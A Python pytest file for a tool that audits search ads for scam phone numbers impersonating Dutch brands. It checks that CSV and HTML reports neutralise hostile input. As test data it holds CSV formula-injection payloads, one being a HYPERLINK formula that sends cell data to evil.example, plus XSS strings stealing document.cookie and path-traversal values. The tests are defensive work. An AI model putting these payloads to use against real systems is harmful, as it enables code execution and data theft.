"""Report cells, platform selection, CSV files and the HTML page, on hand-made findings (no browser)."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import pytest

from reports import ReportContext, write_bundle, write_reports
from reports.cells import is_inert, neutralise, phone_as_shown, phone_number, phone_tel
from reports.html_report import rel_href, safe_url
from reports.platforms import report_reason, to_report
from reports.trend import trend_chart

T1 = "2024-05-01T02:00:00+00:00"
PNG = (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89"
       b"\x00\x00\x00\rIDATx\x9cc\xf8\xcf\xc0\xf0\x1f\x00\x05\x00\x01\xff\x89\x99=\x1d\x00\x00\x00\x00IEND\xaeB`\x82")


def finding(**kw: Any) -> dict[str, Any]:
    f: dict[str, Any] = {
        "brand": "KPN", "e164": "+319001234567", "number_type": "premium_rate", "raw": "0900-1234567",
        "verdict": "scam", "reason": "premium-rate number the brand does not publish", "severity": "high",
        "engine": "google", "query": "KPN klantenservice", "device": "desktop", "kind": "ad",
        "placement": "top", "rank": 1, "title": "KPN Klantenservice", "display_url": "kpn-hulp.nl › bellen",
        "landing_url": "https://kpn-hulp.nl/", "click_url": "https://www.googleadservices.com/pagead/aclk?x=1",
        "domain": "kpn-hulp.nl", "text": "Bel direct", "captured_at": T1, "html_path": "",
        "screenshot_path": "", "evidence_path": "", "platform": "google_ads",
    }  # fmt: skip
    f.update(kw)
    return f


def read_csv(path: Path, delimiter: str = ",") -> list[list[str]]:
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf"), f"{path.name} has no UTF-8 BOM"
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig")), delimiter=delimiter))


def read_dicts(path: Path) -> list[dict[str, str]]:
    header, *rows = read_csv(path)
    return [dict(zip(header, r, strict=True)) for r in rows]


@pytest.mark.parametrize(
    ("value", "expected"),
    [("=1+1", "'=1+1"), ("+31900", "'+31900"), ("-2+3", "'-2+3"), ("@SUM(1)", "'@SUM(1)"), ("  =cmd", "  '=cmd"),
     ("\t=1", "'\t'=1"), ("\rx", "'\rx"), ("x;=cmd|' /C calc'!A0;x", "x;'=cmd|' /C calc'!A0;x"),
     ("a,+b", "a,'+b"), ("a\n@x", "a\n'@x"), ('a"=b', "a\"'=b"), ("Bel 0900-1234 nu", "Bel 0900-1234 nu"),
     (None, ""), (3, "3")],
)  # fmt: skip
def test_neutralise_holds_for_any_delimiter(value: Any, expected: str) -> None:
    assert neutralise(value) == expected
    assert is_inert(neutralise(value)) and neutralise(neutralise(value)) == neutralise(value)


def test_phone_cells_paste_as_the_number() -> None:
    assert phone_number("+319001234567") == "0900 1234567"
    assert phone_number("+3222345678") == "00 32 2 234 56 78"  # foreign: as dialled from NL
    assert phone_tel("+319001234567") == "tel:+319001234567"
    assert phone_as_shown("0900 1234 567", "+319001234567") == "0900 1234 567"
    assert phone_as_shown("+31 88 123 4567", "+31881234567") == "00 31 88 123 4567"
    # a bare digit run would become a spreadsheet number without its leading 0
    assert phone_as_shown("0612345678", "+31612345678") == "06 12345678"
    assert phone_as_shown("+31628449107", "+31628449107") == "06 28449107"
    # a number a landing page split with zero-width characters is written as a person saw it, and dials
    assert phone_as_shown("0900\u200b4050\u200d607", "+319004050607") == "0900 4050607"
    assert phone_as_shown("0900\u200b 4050 607", "+319004050607") == "0900 4050 607"
    for cell in (phone_number("+319001234567"), phone_as_shown("+31 88 123 4567", "+31881234567")):
        assert cell[0].isdigit() and " " in cell and "'" not in cell


def test_csv_files_have_a_bom_and_every_field_quoted(tmp_path: Path) -> None:
    write_reports([finding()], tmp_path)
    for name in ("findings.csv", "google_ads.csv", "microsoft_advertising.csv"):
        text = (tmp_path / name).read_bytes().decode("utf-8-sig")
        header = text.splitlines()[0]
        assert header.startswith('"') and header.endswith('"') and '","' in header


def test_no_cell_starts_a_formula_whichever_delimiter_splits_it(tmp_path: Path) -> None:
    evil = ['=HYPERLINK("https://evil.example/?x="&A1,"Klik hier")', "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3",
            "x;=cmd|' /C calc'!A0;x", "a,=1+1\tb|@x"]  # fmt: skip
    write_reports([finding(title=t, text=t, e164=f"+3190012345{i}") for i, t in enumerate(evil)], tmp_path)
    for name in ("findings.csv", "google_ads.csv"):
        for delimiter in (",", ";", "\t", "|"):
            for row in read_csv(tmp_path / name, delimiter):
                for cell in row:
                    assert not cell.lstrip(" \"").startswith(("=", "+", "-", "@")), (name, delimiter, cell)
    rows = read_dicts(tmp_path / "google_ads.csv")
    assert {r["ad_headline"] for r in rows} == {neutralise(t) for t in evil}


def test_platform_csv_columns_and_values(tmp_path: Path) -> None:
    officials = {"KPN": [{"e164": "+318000234567", "source_url": "https://www.kpn.com/contact", "published": 1}]}
    f = finding(id="f1", advertiser_domain="kpn-echt.nl", domain="googleadservices.com", status="new")
    write_reports([f], tmp_path, context=ReportContext(officials=officials))
    (row,) = read_dicts(tmp_path / "google_ads.csv")
    assert row["report_id"] == "f1" and row["report_reason"] == "new"
    assert row["advertiser_domain"] == "kpn-echt.nl"  # the landing page's real domain, not the tracker's
    assert (row["phone_number"], row["phone_tel"], row["phone_as_shown"]) == (
        "0900 1234567", "tel:+319001234567", "0900-1234567")
    assert row["brand_official_numbers"] == "0800 0234567" and row["brand_official_source"] == "https://www.kpn.com/contact"
    assert row["search_engine"].startswith("Google") and row["country"] == "NL" and row["seen_at_utc"] == T1
    assert row["ad_click_url_not_visited"].startswith("https://www.googleadservices.com/")
    assert read_dicts(tmp_path / "microsoft_advertising.csv") == []


def test_new_reopened_or_never_reported_undismissed_ads_go_to_a_platform_and_never_twice() -> None:
    now = "2024-05-20T02:00:00+00:00"
    fs = [
        finding(id="new", status="new"), finding(id="reopened", status="reopened"),
        finding(id="recurring", status="recurring"), finding(id="dismissed", status="new", state="dismissed"),
        finding(id="inconclusive", status="new", verdict="inconclusive"),
        finding(id="organic", status="new", kind="organic", platform=""),
        finding(id="sent-lately", status="new"), finding(id="sent-long-ago", status="recurring", state="reported"),
        finding(id="reported-lately", status="recurring", state="reported"),
        finding(id="bing", status="new", engine="bing", platform="microsoft_advertising"),
        finding(id="both", status="new", platform="google_ads", platforms='["google_ads", "microsoft_advertising"]'),
    ]  # fmt: skip
    sent = {("sent-lately", "google_ads"): "2024-05-18T02:00:00+00:00",
            ("sent-long-ago", "google_ads"): "2024-05-01T02:00:00+00:00",
            ("reported-lately", "google_ads"): "2024-05-19T02:00:00+00:00"}  # fmt: skip
    ctx = ReportContext(now=now, sent=sent, followup_days=7)
    chosen = {f["id"]: f["report_reason"] for f in to_report(fs, "google_ads", ctx)}
    assert chosen == {"new": "new", "reopened": "reopened", "sent-long-ago": "still live 19 days after the report",
                      "both": "new", "recurring": "still live, not yet reported"}
    assert sorted(f["id"] for f in to_report(fs, "microsoft_advertising", ctx)) == ["bing", "both"]
    # a finding without lifecycle fields (older store) counts as new
    assert report_reason(finding(), None, 7, now) == "new"


def _bundle_with_evidence(tmp_path: Path, **kw: Any):
    ev = tmp_path / "store" / "run1"
    ev.mkdir(parents=True, exist_ok=True)
    (ev / "crop.png").write_bytes(PNG)
    (ev / "shot.png").write_bytes(PNG)
    (ev / "page.html").write_text("<script>alert(1)</script>", encoding="utf-8")
    f = finding(id="f1", status="new", evidence_path=str(ev / "crop.png"), screenshot_path=str(ev / "shot.png"),
                html_path=str(ev / "page.html"), **kw)  # fmt: skip
    return write_bundle([f], tmp_path / "out")


def test_html_inlines_the_crop_and_never_links_the_raw_page(tmp_path: Path) -> None:
    _bundle_with_evidence(tmp_path, state="reported")
    html = (tmp_path / "out" / "report.html").read_text(encoding="utf-8")
    assert 'src="data:image/png;base64,' in html
    assert 'href="evidence/run1-shot.png"' in html
    assert "raw page (not linked" in html and 'href="evidence/run1-page.html"' not in html
    assert "reported, still live" in html and "badge-new" in html
    assert str(tmp_path) not in html  # relative paths only


def test_html_links_the_sanitised_copy_of_a_captured_page(tmp_path: Path) -> None:
    (tmp_path / "store" / "run1").mkdir(parents=True)
    (tmp_path / "store" / "run1" / "page.safe.html").write_text("<p>inert</p>", encoding="utf-8")
    _bundle_with_evidence(tmp_path)
    html = (tmp_path / "out" / "report.html").read_text(encoding="utf-8")
    assert 'href="evidence/run1-page.safe.html"' in html and 'href="evidence/run1-page.html"' not in html
    assert (tmp_path / "out" / "evidence" / "run1-page.safe.html").read_text() == "<p>inert</p>"


def test_html_escapes_attacker_text_and_links_only_http(tmp_path: Path) -> None:
    write_reports([finding(text="<script>alert('x')</script>", title='"><img src=x onerror=alert(1)>'),
                   finding(e164="+31201234567", landing_url="javascript:alert(document.cookie)"),
                   finding(e164="+31201234568", landing_url="https://kpn-hulp.nl/bel?a=1&b=2")], tmp_path)
    html = (tmp_path / "report.html").read_text(encoding="utf-8")
    assert "<script>alert" not in html and "&lt;script&gt;alert" in html
    assert "<img src=x" not in html
    assert 'href="javascript:' not in html.lower() and "javascript:alert(document.cookie)" in html
    assert 'href="https://kpn-hulp.nl/bel?a=1&amp;b=2"' in html
    assert "googleadservices" in html and 'href="https://www.googleadservices' not in html  # never linked
    assert "<details" in html  # click URLs fold away


def test_the_night_in_words_counts_once(tmp_path: Path) -> None:
    run = {"id": "r1", "command": "run", "status": "incomplete", "started_at": T1,
           "summary": {"captures": {"ok": 4, "captcha": 1}, "findings": 1}}  # fmt: skip
    blocked = [{"brand": "ING", "engine": "google", "query": "ING klantenservice", "device": "mobile",
                "status": "captcha", "captured_at": T1}]  # fmt: skip
    bundle = write_bundle([finding(status="new"), finding(e164="+31201234567", verdict="inconclusive",
                                                          status="recurring")],
                          tmp_path, run=run, blocked=blocked, context=ReportContext(brands=("KPN", "ING")))
    lines = bundle.summary.splitlines()
    assert lines[1] == "2 brands searched, 5 result pages: 4 audited, 1 NOT audited (1 captcha)."
    assert lines[2] == "2 cases (1 scam, 1 inconclusive); 1 new, 1 recurring."
    assert lines[3] == "To report: Google Ads 1 ad, Microsoft Advertising 0 ads."
    assert bundle.subject == "serpaudit 2024-05-01: 2 cases, 1 not audited"
    gone = write_bundle([], tmp_path / "later", run=run, blocked=[], context=ReportContext(gone_tonight=1))
    assert "1 case of earlier nights is gone: not seen on the last audited nights." in gone.summary.splitlines()
    html = (tmp_path / "report.html").read_text(encoding="utf-8")
    assert "{" not in html.split("<body>")[1].split("<svg")[0]  # no Python dicts printed
    assert html.index('id="not-audited"') > html.index('id="takedowns"') > html.index('id="findings"')


def test_trend_chart_covers_30_nights_per_engine() -> None:
    chart = trend_chart([("2024-05-01", "google", 3), ("2024-04-20", "bing", 1), ("2024-03-01", "google", 9)],
                        "2024-05-01T02:00:00+00:00")  # fmt: skip
    assert (chart.first, chart.last, chart.nights) == ("2024-04-02", "2024-05-01", 30)
    totals = {s.engine: s.total for s in chart.series}
    assert totals == {"google": 3, "bing": 1, "duckduckgo": 0}  # March is outside the window
    assert all(len(s.points.split()) == 30 for s in chart.series)


def test_safe_url_and_rel_href() -> None:
    assert safe_url("https://x.nl/a") == "https://x.nl/a"
    for bad in ("javascript:alert(1)", " JavaScript:alert(1)", "data:text/html,x", "//x.nl", "x.nl", None,
                'https://x.nl/"onmouseover=alert(1)'):  # fmt: skip
        assert safe_url(bad) is None
    assert rel_href("evidence/a b.png") == "evidence/a%20b.png"
    assert rel_href("/etc/passwd") is None and rel_href("../x") is None and rel_href("C:/x") is None


def test_output_is_deterministic(tmp_path: Path) -> None:
    findings = [finding(brand=b, e164=e, engine=g) for b in ("Odido", "KPN") for e in ("+312", "+311")
                for g in ("bing", "google")]  # fmt: skip
    write_reports(findings, tmp_path / "a")
    write_reports(list(reversed(findings)), tmp_path / "b")
    for name in ("findings.csv", "google_ads.csv", "microsoft_advertising.csv", "google_ads.zip", "report.html"):
        assert (tmp_path / "a" / name).read_bytes() == (tmp_path / "b" / name).read_bytes(), name


def test_campaigns_from_the_store_show_their_headline(tmp_path: Path) -> None:
    campaigns = [{"id": "c7k2m9q", "headline": "0900 8765 432 advertised for 2 brands on 3 domains since 2024-04-02",
                  "findings": 3, "brands": ["KPN", "Odido"], "numbers": ["+319008765432"]}]  # fmt: skip
    write_reports([finding()], tmp_path, context=ReportContext(campaigns=campaigns))
    html = (tmp_path / "report.html").read_text(encoding="utf-8")
    assert "c7k2m9q" in html and "advertised for 2 brands on 3 domains" in html and "KPN, Odido" in html


def test_a_case_without_a_number_is_headed_by_its_domain(tmp_path: Path) -> None:
    lookalike = finding(e164="", raw="", number_type="", rule="lookalike_domain", domain="kpn-hulplijn.nl",
                        reason="'kpn-hulplijn' carries the name KPN on a domain that is not the brand's")
    write_bundle([lookalike], tmp_path, run=None, blocked=[], context=ReportContext(brands=("KPN",)))
    html = (tmp_path / "report.html").read_text(encoding="utf-8")
    assert "(no number shown)" in html and "unknown type" not in html
    assert "lookalike domain: &#39;kpn-hulplijn&#39; carries the name KPN" in html


def test_one_ad_is_one_card_one_csv_row_and_one_xlsx_row_with_every_number_and_reason(tmp_path: Path) -> None:
    import openpyxl

    reasons = [
        {"rule": "unofficial_number", "e164": "+319001234567", "raw": "0900-1234567", "number_type": "premium_rate",
         "verdict": "scam", "severity": "high", "reason": "premium-rate number the brand does not publish"},
        {"rule": "unofficial_number", "e164": "+31612345678", "raw": "06 12 34 56 78", "number_type": "mobile",
         "verdict": "scam", "severity": "high", "reason": "ad shows a number the brand does not publish"},
        {"rule": "lookalike_domain", "e164": "", "raw": "", "number_type": "", "verdict": "scam", "severity": "high",
         "reason": "'kpn-hulp' carries the name KPN on a domain that is not the brand's"},
    ]  # fmt: skip
    case = finding(id="abcdefg", reasons=reasons, numbers=["+319001234567", "+31612345678"],
                   rules=["lookalike_domain", "unofficial_number"])
    write_bundle([case], tmp_path, run=None, blocked=[], context=ReportContext(brands=("KPN",)))
    with (tmp_path / "google_ads.csv").open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert len(rows) == 1
    (row,) = rows
    assert (row["phone_number"], row["phone_tel"]) == ("0900 1234567", "tel:+319001234567")
    assert row["all_numbers"] == "0900 1234567 (+319001234567) / 06 12345678 (+31612345678)"
    assert row["rules"] == "unofficial_number, lookalike_domain"
    assert "shows 0900 1234567" in row["policy_issue"] and "shows 06 12345678" in row["policy_issue"]
    assert "imitating KPN" in row["policy_issue"]
    html = (tmp_path / "report.html").read_text(encoding="utf-8")
    assert html.count('class="finding ') == 1 and "0900-1234567" in html and "06 12 34 56 78" in html
    assert "no number shown" not in html and html.count("<li>") >= 3
    ws = openpyxl.load_workbook(tmp_path / "findings.xlsx")["open"]
    header = [c.value for c in ws[1]]
    (xrow,) = list(ws.iter_rows(min_row=2, values_only=True))
    cell = dict(zip(header, xrow, strict=True))
    assert cell["E.164"] == "+319001234567\n+31612345678" and "lookalike domain" in cell["why"]


def test_the_bundle_hands_over_the_screenshot_with_the_ad_outlined_and_a_clean_description(tmp_path: Path) -> None:
    import zipfile

    from PIL import Image

    shots = tmp_path / "evidence-store"
    shots.mkdir()
    Image.new("RGB", (400, 600), "white").save(shots / "page.png")
    text = ("Gesponsord\nKPN Klantenservice\nkpn-hulp.nl\nwww.kpn-hulp.nl\nBel direct 0900-1234567.\n"
            "\u200e Storing melden")
    case = finding(id="abcdefg", screenshot_path=str(shots / "page.png"), box="[40, 100, 200, 80]", text=text,
                   display_url="www.kpn-hulp.nl")
    out = tmp_path / "out"
    write_bundle([case], out, run=None, blocked=[], context=ReportContext(brands=("KPN",)))
    (row,) = read_dicts(out / "google_ads.csv")
    assert row["ad_headline"] == "KPN Klantenservice"
    assert row["ad_description"] == "Bel direct 0900-1234567.\nStoring melden"  # no label, headline or URL again
    outlined = out / row["screenshot_ad_outlined_file"]
    assert outlined.is_file() and row["screenshot_ad_outlined_file"] != row["screenshot_file"]
    with Image.open(outlined) as image:
        assert image.size == (400, 600)
        assert image.getpixel((34 + 2, 150)) == (227, 18, 11)  # the frame, MARGIN px left of the ad
        assert image.getpixel((140, 140)) == (255, 255, 255)  # the ad itself is not painted over
    with Image.open(out / row["screenshot_file"]) as original:
        assert original.getpixel((36, 150)) == (255, 255, 255)  # the evidence stays as captured
    with zipfile.ZipFile(out / "google_ads.zip") as zf:
        assert row["screenshot_ad_outlined_file"] in zf.namelist()
    assert "ad outlined" in (out / "report.html").read_text(encoding="utf-8")
